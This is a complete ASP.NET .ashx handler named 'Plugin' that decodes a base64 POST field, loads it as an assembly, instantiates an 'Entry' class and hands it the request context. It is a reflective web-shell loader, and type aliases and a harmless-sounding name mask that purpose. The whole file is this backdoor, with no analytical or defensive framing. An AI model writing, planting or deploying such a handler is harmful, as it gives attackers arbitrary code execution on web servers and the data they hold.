<%@ WebHandler Language="C#" Class="Plugin" %>
using System.Web;
using Asm = System.Reflection.Assembly;
using B64 = System.Convert;

// an assembly sent in the request is loaded through a type alias and handed the context
public class Plugin : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        byte[] raw = B64.FromBase64String(context.Request.Form["blob"]);
        object entry = Asm.Load(raw).CreateInstance("Entry");
        entry.Equals(context);
    }

    public bool IsReusable { get { return false; } }
}
